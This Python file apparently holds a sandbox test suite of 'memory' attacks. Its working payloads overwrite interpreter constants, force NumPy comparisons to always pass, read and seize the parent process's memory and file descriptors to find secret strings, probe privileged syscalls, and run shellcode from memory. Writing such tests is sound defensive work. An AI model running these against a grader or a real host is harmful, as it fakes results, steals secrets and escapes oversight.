"""ctypes and raw memory: below Python, where no rule of the language holds."""

from . import Family

family = attack = Family("memory")

LIBC = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
"""

attack(
    "small integers",
    "Write over a cached constant of the interpreter: 0 becomes 1.",
    """
    import ctypes, sys
    @each
    def _(honest):
        def writing(*args, **options):
            answer = honest(*args, **options)
            ctypes.memmove(id(0), id(1), sys.getsizeof(1))
            return answer
        return writing
    """,
)
attack(
    "type slots",
    "Write NumPy's comparison of arrays over with one that always holds.",
    """
    import ctypes, sys
    word = ctypes.sizeof(ctypes.c_void_p)
    # tp_richcompare stands 25 words behind the beginning of a type (PyTypeObject, CPython 3.11).
    slot = ctypes.c_void_p.from_address(id(np.ndarray) + 25 * word)
    kind = ctypes.CFUNCTYPE(ctypes.py_object, ctypes.py_object, ctypes.py_object, ctypes.c_int)
    always = kind(lambda a, b, how: np.True_)
    slot.value = ctypes.cast(always, ctypes.c_void_p).value
    """,
)
attack(
    "segmentation fault",
    "Read address 0 in a call, so that the process dies.",
    """
    import ctypes
    @each
    def _(honest):
        return lambda *args, **options: ctypes.string_at(0)
    """,
)
attack(
    "/proc/self/mem",
    "Read and write the process's own memory, and that of the process above.",
    """
    import os
    def look(pid):
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as mem:
            for line in maps:
                if "[heap]" in line:
                    start, end = (int(n, 16) for n in line.split()[0].split("-"))
                    mem.seek(start)
                    found = mem.read(min(end - start, 2**25))
                    for word in (b"hidden = 31415", b"CNNLAB_SECRET=", b"BEGIN HIDDEN"):
                        at = found.find(word)
                        if at >= 0 and pid != "self":
                            say(found[at : at + 40])
    for pid in ("self", os.getppid(), aim["parent"]):
        attempt(look, pid)
    """,
)
attack(
    "out of bounds",
    "Read far beyond an argument's memory by its strides, and return what lies there.",
    """
    from numpy.lib.stride_tricks import as_strided
    def around(array):
        view = as_strided(array.ravel(), shape=(2**15,), strides=(8,)).view(np.uint8)
        found = bytes(view)
        for word in (b"hidden = 31415", b"CNNLAB_SECRET=", b"BEGIN HIDDEN", b"mark(EXERCISE"):
            if word in found:
                say(found[found.index(word) :][:40])
        return view[:8].astype(float)
    @each
    def _(honest):
        return lambda *args, **options: around(np.asarray(args[0], float))
    """,
)
attack(
    "__array_interface__",
    "Make arrays out of addresses, without ctypes.",
    """
    class Anywhere:
        def __init__(self, address, size):
            self.__array_interface__ = {
                "data": (address, False), "shape": (size,), "typestr": "<f8", "version": 3
            }
    @each
    def _(honest):
        return lambda *args, **options: np.asarray(Anywhere(id(args) - id(args) % 4096, 400))
    """,
)
attack(
    "parent's memory",
    "Read, write and attach to the memory of the process above with process_vm_readv and ptrace.",
    LIBC
    + """
import signal
buffer = ctypes.create_string_buffer(64)
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
here, there = Part(ctypes.addressof(buffer), 64), Part(id(np), 64)
for pid in (os.getppid(), aim["parent"]):
    for call in (libc.process_vm_readv, libc.process_vm_writev):
        got = call(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        if got > 0:
            say(f"{call.__name__} {got}")
    if libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE: does not stop it
        say("seized")
        libc.ptrace(17, pid, 0, 0)
""",
)
attack(
    "pidfd_getfd",
    "Take open files and sockets out of the process above.",
    LIBC
    + """
for pid in (os.getppid(), aim["parent"]):
    pidfd = libc.syscall(434, pid, 0)
    for fd in range(3, 40):
        if pidfd >= 0 and (got := libc.syscall(438, pidfd, fd, 0)) >= 0:
            say(f"descriptor {fd} of the parent")
            os.close(got)
""",
)
attack(
    "raw system calls",
    "Call what Python does not offer: new namespaces, mounts, io_uring, bpf, keyrings, perf.",
    LIBC
    + """
def call(number, *args):
    return libc.syscall(number, *args)
zeros = ctypes.create_string_buffer(120)
reached = {
    "unshare": libc.unshare(0x10000000),
    "mount": libc.mount(b"none", os.getcwd().encode(), b"tmpfs", 0, None),
    "chroot": libc.chroot(b"/"), "io_uring_setup": call(425, 4, zeros), "bpf": call(321, 0, zeros, 48),
    "keyctl": call(250, 0, -3, 1), "add_key": call(248, b"user", b"loot", b"x", 1, -2),
    "perf_event_open": call(298, zeros, 0, -1, -1, 0), "userfaultfd": call(323, 1),
    "init_module": call(175, zeros, 0, b""), "clone3": call(435, zeros, 0),
    "process_madvise": call(440, -1, 0, 0, 0, 0),
}
for name, got in reached.items():
    if got >= 0:
        say(name)
""",
)
attack(
    "memory as a file",
    "Write a program into memory and execute it from there.",
    LIBC
    + """
fd = libc.memfd_create(b"loot", 0)
if fd >= 0:
    os.write(fd, b"#!/bin/sh\\necho lo''ot:memfd\\n")
    pid = attempt(os.fork)
    if pid == 0:
        attempt(os.execv, f"/proc/self/fd/{fd}", ["loot"])
        os._exit(0)
    if pid:
        os.waitpid(pid, 0)
        say("forked")
""",
    wins="leak",
)
attack(
    "executable memory",
    "Map memory that can be executed, and run a system call from there.",
    """
    import ctypes, mmap
    # mov eax, 57 (fork); syscall; ret: in a child, nothing but exit.
    code = bytes.fromhex("b8390000000f05" "85c0" "7507" "b83c000000" "0f05" "c3")
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    got = call()
    if got > 0:
        say(f"forked {got}")
    """,
)
